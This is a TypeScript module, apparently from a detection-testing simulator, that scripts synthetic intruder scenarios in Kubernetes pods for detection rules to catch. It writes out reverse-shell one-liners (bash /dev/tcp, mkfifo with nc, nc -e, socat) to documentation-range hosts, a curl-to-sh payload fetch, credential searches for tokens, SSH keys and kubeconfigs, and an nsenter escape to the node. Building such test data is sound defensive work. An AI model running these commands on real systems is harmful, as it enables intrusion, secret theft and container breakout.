/** People who should not be there: ways in, ways to a better shell, what they look for, and ways out of the container. */
import type { Actor } from '../actor.ts';
import { typed } from '../programs.ts';
import type { Random } from '../random.ts';
import { programsOf, type Scene } from '../scene.ts';
import type { Place, Role } from '../world.ts';

/** Addresses of the documentation ranges. */
const HOSTS = ['203.0.113.9', '203.0.113.77', '198.51.100.23'] as const;
const PORTS = ['4444', '8443', '9001'] as const;

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

/** Of a shell that the runtime starts and that starts another. */
const OUTER_SAYS = 'kubectl exec with a command. It leads its own entry: another rule sees it.';

const FIRST_LOOKS = ['id', 'whoami', 'uname -a', 'ps aux', 'env', 'hostname -I', 'cat /etc/passwd'] as const;

const KEY_SEARCHES = [
  `cat ${TOKEN}`,
  'find / -name id_rsa -type f',
  'find / -name .env -type f',
  'grep -rl AWS_SECRET_ACCESS_KEY /var /etc /home',
  'cat /root/.kube/config',
  'grep -r password /etc --include=*.conf',
] as const;

export const intruderActors = {
  'reverse-shell': {
    title: 'Web shell to reverse shell',
    does: 'An uploaded script lets a web server run commands; one of them opens a reverse shell.',
    tells: ['d1', 'd2'],
    play: (scene, random) => webShell(scene, random, scene.pod('storefront'), 'd2'),
  },
  'reverse-shell-terminal': {
    title: 'Reverse shell where pods have a terminal',
    does: 'A web server opens a reverse shell, in a pod that is declared with tty: true.',
    tells: ['d1', 'd8'],
    play: (scene, random) => webShell(scene, random, scene.pod('preview'), 'd8'),
  },
  'fifo-shell': {
    title: 'Shell on pipes',
    does: 'A server is made to run sh -i between a named pipe and netcat.',
    tells: ['d3', 'i1'],
    play(scene, random) {
      const { shell, outer, netcat } = fifoShell(scene, random);
      search(scene, random, shell);
      for (const role of [shell, netcat, outer]) scene.end(role);
    },
  },
  'netcat-shell': {
    title: 'Shell of netcat',
    does: 'A server is made to run nc -e.',
    tells: ['d4'],
    play(scene, random) {
      const place = scene.pod('checkout');
      const run = programsOf(place);
      const [host, port] = [random.pick(HOSTS), random.pick(PORTS)];
      const outer = scene.start(place.worker, run('/bin/sh', '-c', `nc ${host} ${port} -e /bin/sh`));
      const netcat = scene.start(outer, run('nc', host, port, '-e', '/bin/sh'));
      const shell = scene.start(netcat, run('/bin/sh'), { tells: 'd4' });
      search(scene, random, shell);
      for (const role of [shell, netcat, outer]) scene.end(role);
    },
  },
  'pty-python': {
    title: 'Terminal by Python',
    does: 'An intruder gives the shell on pipes a terminal, with pty.spawn of Python.',
    tells: ['d3', 'd5', 'i1'],
    play(scene, random) {
      const { shell, outer, netcat, place } = fifoShell(scene, random);
      const run = programsOf(place);
      scene.wait(3, 20);
      const python = scene.start(shell, run('python3', '-c', "import pty;pty.spawn('/bin/bash')"));
      const better = scene.start(
        python,
        { executable: '/usr/bin/bash', args: ['/bin/bash'] },
        { tells: 'd5', session: 'terminal' },
      );
      search(scene, random, better);
      for (const role of [better, python, shell, netcat, outer]) scene.end(role);
    },
  },
  'pty-script': {
    title: 'Terminal by script',
    does: 'An intruder gives the shell on pipes a terminal, with script.',
    tells: ['d3', 'd6', 'i1'],
    play(scene, random) {
      const { shell, outer, netcat, place } = fifoShell(scene, random);
      const run = programsOf(place);
      scene.wait(3, 20);
      const script = scene.start(shell, run('script', '-qc', 'bash -i', '/dev/null'));
      const inner = scene.start(script, run('sh', '-c', 'bash -i'), { session: 'terminal' });
      const better = random.chance(0.5) ? inner : scene.start(inner, run('bash', '-i'), { tells: 'd6' });
      if (better === inner) scene.become(inner, run('bash', '-i'), { tells: 'd6' });
      search(scene, random, better);
      if (better !== inner) scene.end(better);
      for (const role of [inner, script, shell, netcat, outer]) scene.end(role);
    },
  },
  socat: {
    title: 'Terminal by socat',
    does: 'A server is made to run socat, which opens a login shell on a terminal.',
    tells: ['d7'],
    play(scene, random) {
      const place = scene.pod('checkout');
      const run = programsOf(place);
      const to = `tcp:${random.pick(HOSTS)}:${random.pick(PORTS)}`;
      const socat = scene.start(place.worker, run('socat', 'exec:bash -li,pty,stderr,setsid,sigint,sane', to));
      const shell = scene.start(socat, run('bash', '-li'), { tells: 'd7', session: 'terminal' });
      search(scene, random, shell);
      for (const role of [shell, socat]) scene.end(role);
    },
  },
  'exec-without-terminal': {
    title: 'bash -i through an exec',
    does: 'With a stolen token, somebody runs bash -i below the shell of a kubectl exec without a terminal.',
    tells: ['c2'],
    play(scene, random) {
      const place = scene.pod(random.pick(['checkout', 'ledger-db']));
      const run = programsOf(place);
      const outer = scene.enter(place, run('sh', '-c', 'bash -i; true'), { says: OUTER_SAYS });
      const shell = scene.start(outer, run('bash', '-i'), { tells: 'c2' });
      search(scene, random, shell);
      for (const role of [shell, outer]) scene.end(role);
    },
  },
  'self-replacing': {
    title: 'A shell that replaces itself',
    does: 'With a stolen token, somebody runs sh -c "bash -i" by kubectl exec: the outer shell turns into the inner one.',
    tells: ['c3'],
    play(scene, random) {
      const place = scene.pod(random.pick(['checkout', 'ledger-db']));
      const run = programsOf(place);
      const shell = scene.enter(place, run('sh', '-c', 'bash -i'), { says: OUTER_SAYS });
      scene.become(shell, run('bash', '-i'), { tells: 'c3' });
      search(scene, random, shell);
      scene.end(shell);
    },
  },
  nsenter: {
    title: 'Out of the container',
    does: 'Somebody steps out of a privileged pod onto the node, with nsenter.',
    tells: ['b1', 'h7', 'h8', 'h9'],
    play: stepOut,
  },
  'curl-to-shell': {
    title: 'curl into a shell',
    does: 'A server is made to fetch a script and to run it; the script drops a program and starts it.',
    tells: ['i1', 'i3', 'i6', 'i7'],
    play(scene, random) {
      const place = scene.pod('storefront');
      const run = programsOf(place);
      const url = `http://${random.pick(HOSTS)}/x.sh`;
      const outer = scene.start(place.worker, run('sh', '-c', `curl -fsSL ${url} | sh`));
      scene.run(outer, run('curl', '-fsSL', url), { lasts: [120, 900], says: 'Fetches the script.' });
      const script = scene.start(outer, run('sh'), {
        says: 'Runs what curl fetched. It has no -i: other rules look at this.',
      });
      const dropped = `/tmp/.${random.suffix(6)}`;
      const get = ['curl', '-fsSL', '-o', dropped, `${url.slice(0, -4)}m`] as const;
      if (random.chance(0.3)) {
        const fetching = scene.start(script, run(...get), { says: 'Fetches a program.' });
        scene.file(fetching, 'forbidden', dropped);
        scene.end(fetching);
      } else {
        scene.run(script, run(...get), {
          lasts: [200, 1500],
          says: 'Fetches a program.',
          touches: [['created', dropped]],
        });
        scene.run(script, run('chmod', '+x', dropped), { touches: [['modified', dropped]] });
        const image = { executable: dropped, args: [dropped] };
        if (random.chance(0.5))
          scene.blocked(script, image, 'The program may not run from /tmp: the policy blocks it.');
        else scene.start(script, image, { says: 'The program runs.' });
        scene.run(script, run('rm', '-f', dropped), { touches: [['deleted', dropped]] });
      }
      for (const role of [script, outer]) scene.end(role);
    },
  },
  'key-search': {
    title: 'Search for keys',
    does: 'Somebody with a stolen token opens a shell in a pod and looks for keys and passwords.',
    tells: ['b1', 'b3'],
    play: searchForKeys,
  },
  campaign: {
    title: 'A whole break-in',
    does: 'From the upload form of a shop to a node: reverse shell, another pod with the stolen token, and out of it.',
    tells: ['b1', 'b3', 'd1', 'd2', 'h7', 'h8', 'h9'],
    play(scene, random) {
      webShell(scene, random, scene.pod('storefront'), 'd2');
      scene.wait(60, 240);
      searchForKeys(scene, random);
      scene.wait(30, 120);
      stepOut(scene, random);
    },
  },
} as const satisfies Record<string, Actor>;

/** A script in the uploads of a web server runs commands, and at last a reverse shell. */
function webShell(scene: Scene, random: Random, place: Place, tells: 'd2' | 'd8'): void {
  const run = programsOf(place);
  const folder = '/var/www/html/uploads';
  for (const line of random.sample(FIRST_LOOKS, random.between(1, 3))) {
    const shell = scene.start(place.worker, run('sh', '-c', line), { folder, says: 'A command of the web shell.' });
    scene.run(shell, typed('debian', line));
    scene.end(shell);
    scene.wait(3, 20);
  }
  const target = `/dev/tcp/${random.pick(HOSTS)}/${random.pick(PORTS)}`;
  const outer = scene.start(place.worker, run('bash', '-c', `bash -i >& ${target} 0>&1`), { tells: 'd1', folder });
  const isSame = random.chance(0.5);
  const shell = isSame ? outer : scene.start(outer, run('bash', '-i'), { tells });
  if (isSame) scene.become(outer, run('bash', '-i'), { tells });
  search(scene, random, shell);
  if (!isSame) scene.end(shell);
  scene.end(outer);
}

/** `mkfifo; cat | sh -i | nc` in a server that can be made to run a command. */
function fifoShell(scene: Scene, random: Random) {
  const place = scene.pod('checkout');
  const run = programsOf(place);
  const [host, port] = [random.pick(HOSTS), random.pick(PORTS)];
  const command = `mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${host} ${port} > /tmp/f`;
  const outer = scene.start(place.worker, run('/bin/sh', '-c', command));
  scene.run(outer, run('mkfifo', '/tmp/f'), { touches: [['created', '/tmp/f']] });
  scene.start(outer, run('cat', '/tmp/f'));
  const shell = scene.start(outer, run('/bin/sh', '-i'), { tells: 'd3' });
  const netcat = scene.start(outer, run('nc', host, port));
  return { place, outer, shell, netcat };
}

/** What an intruder types: a look round, then a search for keys. */
function search(scene: Scene, random: Random, shell: Role, lines?: readonly string[]): void {
  const asked = lines ?? [...random.sample(FIRST_LOOKS, random.between(1, 3)), random.pick(KEY_SEARCHES)];
  scene.type(shell, 'debian', asked);
  scene.wait(2, 30);
}

/** With a stolen token: a shell in a pod, and a search for keys and passwords. */
function searchForKeys(scene: Scene, random: Random): void {
  const place = scene.pod(random.pick(['ledger-db', 'storefront']));
  const run = programsOf(place);
  const first = scene.enter(place, run('bash'), { tells: 'b1', hasTerminal: true });
  scene.wait(2, 6);
  const shell = random.chance(0.5) ? scene.start(first, run('bash', '-i'), { tells: 'b3' }) : first;
  search(scene, random, shell, random.sample(KEY_SEARCHES));
  if (shell !== first) scene.end(shell);
  scene.end(first);
}

/** nsenter, from a privileged pod onto its node. */
function stepOut(scene: Scene, random: Random): void {
  const place = scene.pod('node-debugger');
  const run = programsOf(place);
  const first = scene.enter(place, run('bash'), { tells: 'b1', hasTerminal: true });
  scene.wait(3, 15);
  const shellArgs: readonly [string, ...string[]] = random.chance(0.5) ? ['bash'] : ['bash', '-i'];
  const nsenter = scene.start(first, run('nsenter', '-t', '1', '-m', '-u', '-i', '-n', '-p', ...shellArgs), {
    tells: 'h7',
  });
  const shell = scene.start(nsenter, run(...shellArgs), { tells: shellArgs.length === 1 ? 'h8' : 'h9' });
  search(scene, random, shell, ['crictl ps', 'cat /etc/shadow', 'cat /var/lib/kubelet/kubeconfig', 'ps aux']);
  for (const role of [shell, nsenter, first]) scene.end(role);
}
